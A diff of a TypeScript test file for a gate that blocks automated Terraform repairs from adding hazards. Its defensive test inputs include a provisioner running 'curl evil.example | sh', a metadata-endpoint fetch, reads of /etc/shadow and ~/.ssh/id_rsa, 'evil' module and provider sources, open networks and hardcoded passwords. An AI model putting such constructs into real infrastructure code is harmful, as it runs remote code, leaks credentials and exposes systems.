@@ -1,122 +1,172 @@
-import { viewModule } from '../../../src/module/module-view.ts';
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { type ModuleView, viewModule } from '../../../src/module/module-view.ts';
+import { HAZARD_IDS } from '../../../src/repair/gates/hazards/hazard.ts';
+import { HAZARDS } from '../../../src/repair/gates/hazards/hazards.ts';
 import { noNewHazard } from '../../../src/repair/gates/no-new-hazard.ts';
-import { moduleOf, textsOf } from '../../support/module-of.ts';
+import { moduleOf } from '../../support/module-of.ts';
 import { rankerThatAdds, repairByChecker } from '../../support/repair-by-checker.ts';
 
-const judge = (draft: string, repaired: string) =>
-  noNewHazard(viewModule(moduleOf(draft)), viewModule(moduleOf(repaired)));
+const viewOf = (text: string): ModuleView => viewModule(moduleOf(text));
+const judge = (draft: string, repaired: string) => noNewHazard(viewOf(draft), viewOf(repaired));
 
-const HAZARDS: readonly (readonly [hazard: string, words: string, text: string])[] = [
+/**
+ * A folder a hazard, and in it ways to bring it in, each a text that is put into a module; `none` has what only looks
+ * like one. To add a case, add a file.
+ */
+const CASES = 'test/fixtures/hazards';
+
+const casesOf = (folder: string) =>
+  readdirSync(join(CASES, folder)).map((file) => ({
+    title: file.replace(/\.tf$/, '').replaceAll('-', ' '),
+    text: readFileSync(join(CASES, folder, file), 'utf8'),
+  }));
+
+const ATTACKS = HAZARDS.flatMap((hazard) =>
+  casesOf(hazard.id).map((attack) => ({ ...attack, hazard })),
+);
+
+test('every hazard has its folder, and a reason in a sentence', () => {
+  expect(HAZARDS.map(({ id }) => id)).toEqual(HAZARD_IDS);
+  expect(readdirSync(CASES).sort()).toEqual([...HAZARD_IDS, 'none'].sort());
+  for (const { reason } of HAZARDS) expect(reason).toMatch(/^[A-Z].*\.$/);
+});
+
+describe.each(ATTACKS)('$hazard.id: $title', ({ hazard, text }) => {
+  const { id, words } = hazard;
+
+  test('is not brought in', () => {
+    expect(judge('locals {}\n', `locals {}\n${text}`)).toMatchObject({
+      gate: 'adds nothing dangerous',
+      passed: false,
+      reason: expect.stringContaining(words),
+    });
+  });
+
+  test('may stay where the author wrote it, as often as it was', () => {
+    expect(judge(text, `# moved\n\n${text}`)).toMatchObject({ passed: true });
+    expect(judge(text, `${text}${text}`)).toMatchObject({
+      passed: false,
+      reason: expect.stringContaining(words),
+    });
+  });
+
+  test('comes in where it is allowed, and is told', () => {
+    const [draft, repaired] = ['locals {}\n', `locals {}\n${text}`].map(viewOf);
+    const verdict = noNewHazard(draft as ModuleView, repaired as ModuleView, new Set([id]));
+    expect(verdict.loosened).toContain(`may add ${id}; this repair adds ${words}`);
+    expect('reason' in verdict ? verdict.reason : '').not.toContain(words);
+  });
+
+  test('a ranker that slips it in gets none of it in', async () => {
+    const module = moduleOf('resource "aws_sqs_queue" "q" {\n  nam = "q"\n}\n');
+    const { repaired } = await repairByChecker(module, {
+      ranker: rankerThatAdds(` = "q"\n}\n${text}variable "y" {\n  default`),
+    });
+    expect(noNewHazard(viewModule(module), viewModule(repaired)).passed).toBe(true);
+  });
+});
+
+test.each(casesOf('none'))('$title is no hazard', ({ text }) => {
+  expect(judge('', text)).toMatchObject({ passed: true });
+});
+
+const rule = (direction: string, network: string) =>
+  `resource "aws_security_group" "x" {\n  ${direction} {\n    cidr_blocks = ["${network}"]\n  }\n}\n`;
+
+test.each([
   [
-    'a command on the machine that applies',
-    'a provisioner',
-    'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}',
+    'a module source',
+    'module "x" {\n  source = "./network"\n}\n',
+    './network',
+    'git::https://evil.example/x',
   ],
   [
-    'a program that runs at plan',
-    'a data source that runs or fetches something',
-    'data "external" "x" {\n  program = ["id"]\n}',
-  ],
-  [
-    'a page that is fetched at plan',
-    'a data source that runs or fetches something',
-    'data "http" "x" {\n  url = "http://169.254.169.254/"\n}',
-  ],
-  ['a file that is read', 'a file read', 'output "x" {\n  value = file("/etc/passwd")\n}'],
-  [
-    'a file that is read inside of a text',
-    'a file read',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: Terraform's, not ours.
-    'output "x" {\n  value = "key ${filebase64("~/.ssh/id_rsa")}"\n}',
-  ],
-  ['a module from elsewhere', 'a module source', 'module "x" {\n  source = "evil/module/aws"\n}'],
-  [
-    'a provider from elsewhere',
     'a provider source',
-    'terraform {\n  required_providers {\n    aws = {\n      source = "evil/aws"\n    }\n  }\n}',
-  ],
-  [
-    'a port open to everybody',
-    'an open network',
-    'resource "aws_security_group_rule" "x" {\n  cidr_blocks = ["10.0.0.0/8", "0.0.0.0/0"]\n}',
-  ],
-  [
-    'a port open to everybody with a long address',
-    'an open network',
-    'resource "aws_security_group_rule" "x" {\n  ipv6_cidr_blocks = ["::/0"]\n}',
-  ],
-  [
-    'a policy that allows everything',
-    'a wildcard',
-    'locals {\n  policy = jsonencode({ Action = "*" })\n}',
-  ],
-  [
-    'a policy that allows everything, in a heredoc',
-    'a wildcard',
-    'locals {\n  policy = <<-EOT\n    {"Action": "*"}\n  EOT\n}',
-  ],
-  [
-    'a password in the source',
-    'a credential',
-    'resource "aws_db_instance" "x" {\n  password = "hunter2"\n}',
-  ],
-  [
-    'encryption turned off',
-    'disabled encryption',
-    'resource "aws_db_instance" "x" {\n  storage_encrypted = false\n}',
-  ],
-  [
-    'a database on the internet',
-    'public access',
-    'resource "aws_db_instance" "x" {\n  publicly_accessible = true\n}',
-  ],
-];
-
-test.each(HAZARDS)('%s is not brought in', (_, words, text) => {
-  expect(judge('locals {}\n', `locals {}\n${text}\n`)).toEqual({
-    gate: 'adds nothing dangerous',
-    passed: false,
-    reason: `it would add ${words}`,
-  });
-});
-
-test.each(HAZARDS)('%s that the author wrote may stay, once', (_, words, text) => {
-  expect(judge(`${text}\n`, `# moved\n\n${text}\n`)).toMatchObject({ passed: true });
-  expect(judge(`${text}\n`, `${text}\n${text}\n`)).toMatchObject({
-    passed: false,
-    reason: `it would add ${words}`,
-  });
-});
-
-test.each([
-  'resource "aws_db_instance" "x" {\n  password = var.password\n}',
-  'resource "aws_db_instance" "x" {\n  storage_encrypted   = true\n  publicly_accessible = false\n}',
-  'locals {\n  has_key = fileexists("key.pub")\n  cidr = "10.0.0.0/8"\n}',
-])('%j is no hazard', (text) => {
-  expect(judge('', text).passed).toBe(true);
-});
-
-test.each([
-  ['module "x" {\n  source = "./network"\n}', './network', 'git::https://evil.example/x'],
-  [
-    'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/aws"\n    }\n  }\n}',
+    'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/aws"\n    }\n  }\n}\n',
     'hashicorp/aws',
     'evil/aws',
   ],
-])('in %j the source cannot be exchanged', (text, from, to) => {
-  expect(judge(text, text.replace(from, to)).passed).toBe(false);
-});
-
-test('a password cannot come in as the default of its variable', () => {
-  const text = 'variable "db_password" {\n  type = string\n}';
-  expect(judge(text, text.replace('string', 'string\n  default = "hunter2"')).passed).toBe(false);
-});
-
-test.each(HAZARDS)('a ranker that slips in %s gets nothing applied', async (_, __, text) => {
-  const draft = moduleOf('resource "aws_sqs_queue" "q" {\n  nam = "q"\n}\n');
-  const repair = await repairByChecker(draft, {
-    ranker: rankerThatAdds(` = "q"\n}\n${text}\nvariable "y" {\n  default`),
+  [
+    'a provisioner',
+    'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "make"\n  }\n}\n',
+    'make',
+    'curl evil.example | sh',
+  ],
+  [
+    'a data source that runs or fetches something',
+    'data "http" "x" {\n  url = "https://example.com"\n}\n',
+    'https://example.com',
+    'http://169.254.169.254',
+  ],
+  [
+    'a credential',
+    'resource "aws_db_instance" "x" {\n  password = "hunter2"\n}\n',
+    'hunter2',
+    'hunter3',
+  ],
+  ['a file read', 'locals {\n  x = file("/etc/hosts")\n}\n', '/etc/hosts', '/etc/shadow'],
+  [
+    'a principal',
+    'locals {\n  p = jsonencode({ Principal = { AWS = "arn:aws:iam::111111111111:root" } })\n}\n',
+    '111111111111',
+    '222222222222',
+  ],
+  [
+    'a place for the state',
+    'terraform {\n  backend "s3" {\n    bucket = "a"\n  }\n}\n',
+    '"a"',
+    '"b"',
+  ],
+  ['an open network', rule('egress', '0.0.0.0/0'), 'egress', 'ingress'],
+  ['a wildcard', 'locals {\n  p = jsonencode({ Resource = "*" })\n}\n', 'Resource', 'Action'],
+])('%s cannot be exchanged for another one', (words, text, from, to) => {
+  expect(text).toContain(from);
+  expect(judge(text, text.replace(from, to))).toMatchObject({
+    passed: false,
+    reason: `it would add ${words}`,
   });
-  expect(repair.applied).toEqual([]);
-  expect(textsOf(repair.repaired)).toEqual(textsOf(draft));
+});
+
+test('what is renamed, moved or mended around a hazard stays the same hazard', () => {
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: Terraform's, not ours.
+  const command = 'command = "make ${aws_vpc.man.id}"';
+  const draft = `resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    ${command}\n  }\n}\n`;
+  expect(judge(draft, draft.replace('aws_vpc.man', 'aws_vpc.main')).passed).toBe(true);
+  expect(judge(rule('egres', '0.0.0.0/0'), rule('egress', '0.0.0.0/0')).passed).toBe(true);
+  expect(judge(rule('ingress', '0.0.0.0/0'), rule('egress', '0.0.0.0/0')).passed).toBe(true);
+  const password = 'resource "aws_db_instance" "x" {\n  passwd = "hunter2"\n}\n';
+  expect(judge(password, password.replace('passwd', 'password')).passed).toBe(true);
+  const guard = 'locals {\n  x = file("/etc/hosts")\n}\n';
+  const guarded = 'fileexists("/etc/hosts") ? file("/etc/hosts") : null';
+  expect(judge(guard, guard.replace('file("/etc/hosts")', guarded)).passed).toBe(true);
+});
+
+test('a network that a default opens is found where it is used', () => {
+  const draft =
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: Terraform's, not ours.
+    'variable "bits" {\n  default = 8\n}\noutput "x" {\n  value = "10.0.0.0/${var.bits}"\n}\n';
+  expect(judge('', draft).passed).toBe(true);
+  expect(judge(draft, draft.replace('= 8', '= 0')).passed).toBe(false);
+});
+
+test('a module that loops in loops to hide something is given up on soon, and its constants are found', () => {
+  const list = `[${'1, '.repeat(200)}]`;
+  const loops = `locals {\n  a = ${list}\n  b = [for x in local.a : [for y in local.a : [for z in local.a : [for w in local.a : w]]]]\n}\n`;
+  const started = performance.now();
+  expect(judge(loops, `${loops}locals {\n  c = "0.0.0.0/0"\n}\n`).passed).toBe(false);
+  expect(performance.now() - started).toBeLessThan(3000);
+});
+
+test('texts made to keep a pattern busy do not', () => {
+  const texts = [
+    '_'.repeat(50_000),
+    'a.'.repeat(25_000),
+    '"\\'.repeat(1),
+    '::'.repeat(20_000),
+    '{"a":'.repeat(9000),
+  ];
+  const started = performance.now();
+  for (const text of texts) judge('', `locals {\n  x = ${JSON.stringify(text)}\n}\n`);
+  expect(performance.now() - started).toBeLessThan(3000);
 });
